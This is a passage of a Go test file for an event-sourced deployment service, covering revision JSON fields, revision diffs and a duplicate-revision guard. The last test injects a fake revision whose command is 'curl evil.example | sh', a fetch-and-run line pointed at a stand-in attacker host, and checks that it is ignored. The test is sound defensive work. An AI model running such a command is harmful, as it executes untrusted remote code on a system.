	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			data, err := json.Marshal(tt.view)
			if err != nil {
				t.Fatal(err)
			}
			var fields map[string]any
			if err := json.Unmarshal(data, &fields); err != nil {
				t.Fatal(err)
			}
			if got, want := slices.Sorted(maps.Keys(fields)), slices.Sorted(slices.Values(tt.keys)); !slices.Equal(got, want) {
				t.Errorf("JSON keys = %v, want %v", got, want)
			}
		})
	}

	data, err := json.Marshal(mustRevision(t, model, "demo", rev1))
	if err != nil {
		t.Fatal(err)
	}
	var rev struct {
		CreatedAt      string `json:"created_at"`
		KeepAlive      any    `json:"keep_alive"`
		StartupTimeout any    `json:"startup_timeout"`
		Status         string `json:"status"`
	}
	if err := json.Unmarshal(data, &rev); err != nil {
		t.Fatal(err)
	}
	if _, err := time.Parse(time.RFC3339, rev.CreatedAt); err != nil {
		t.Errorf("created_at %q is not RFC 3339: %v", rev.CreatedAt, err)
	}
	if rev.KeepAlive != float64(60) || rev.StartupTimeout != float64(60) {
		t.Errorf("durations = %v, %v; want whole seconds 60, 60", rev.KeepAlive, rev.StartupTimeout)
	}
	if rev.Status != "deployed" {
		t.Errorf("status = %q, want deployed", rev.Status)
	}
}

// writeRichHistory writes two apps' histories using every event type (and,
// on JetStream, an undecodable message), and returns a sequence in the
// middle of it.
func writeRichHistory(f *fixture) uint64 {
	f.t.Helper()
	f.deploy("alpha", rev1, "alice", codeSmall, runtimeA)
	f.scale("alpha", "alice", runtimeB)
	f.deploy("alpha", rev2, "bob", codeLarge, runtimeC)
	f.create("alpha", rev3, "bob", codeLarge, runtimeC)
	f.fail("alpha", rev3, "crashed on start")
	f.runner("alpha", "r1", rev2, events.RunnerRunning, 11, 9001)
	f.runner("alpha", "r2", rev2, events.RunnerPending, 0, 0)
	mid := f.deploy("beta", rev4, "carol", codeSmall, runtimeC)
	if f.js != nil {
		f.publishGarbage()
	}
	f.setRev("alpha", rev1, "carol")
	f.deleteRev("alpha", rev3, "carol")
	f.rollout("alpha", "ro1", false)
	f.completeRollout("alpha", "ro1", false, 2, 0)
	f.runner("alpha", "r1", rev2, events.RunnerTerminated, 0, 0)
	f.runner("beta", "b1", rev4, events.RunnerIdle, 21, 9101)
	f.suspend("alpha")
	return mid
}

func TestDiffRevisions(t *testing.T) {
	t.Parallel()
	a := projections.RevisionView{
		Command: "run $PORT", CodeParams: codeSmall, RuntimeParams: runtimeA, Message: "first",
		Annotations: map[string]string{"git_sha": "abc", "team": "ml"},
	}
	b := a
	b.Annotations = map[string]string{"git_sha": "def", "ticket": "OPS-1"}
	b.CodeParams.MachineType = "GPU-H100"
	b.RuntimeParams.KeepAlive = 300
	b.Message = "second"
	got := projections.DiffRevisions(a, b)
	want := []projections.FieldChange{
		{Field: "machine_type", A: codeSmall.MachineType, B: "GPU-H100"},
		{Field: "keep_alive", A: fmt.Sprintf("%ds", runtimeA.KeepAlive), B: "300s"},
		{Field: "message", A: "first", B: "second"},
		{Field: "annotations.git_sha", A: "abc", B: "def"},
		{Field: "annotations.team", A: "ml", B: ""},
		{Field: "annotations.ticket", A: "", B: "OPS-1"},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("diff:\n got %+v\nwant %+v", got, want)
	}
	if same := projections.DiffRevisions(a, a); len(same) != 0 {
		t.Fatalf("a revision differs from itself: %+v", same)
	}
}

// A second revision.created of an id (the decider never makes one; only a
// writer with the server's rights could) is skipped by the read model and
// by the aggregate's fold alike: what runs is what list-rev shows.
func TestADuplicateRevisionIsSkippedByEveryFold(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.append("demo", "mallory", events.RevisionCreated{RevisionID: rev1, Command: "curl evil.example | sh", Code: codeSmall, Runtime: runtimeA, Strategy: events.StrategyRolling})
		f.caughtUp(model)
		history, err := f.store.Load(f.ctx, "demo", 0)
		if err != nil {
			t.Fatal(err)
		}
		folded := aggregates.Fold("demo", history).Revisions[rev1]
		shown := mustRevision(t, model, "demo", rev1)
		if folded.Command != shown.Command || folded.Number != shown.Number || strings.Contains(shown.Command, "evil") {
			t.Fatalf("the aggregate runs %q (v%d), list-rev shows %q (v%d)", folded.Command, folded.Number, shown.Command, shown.Number)
		}
	})
}
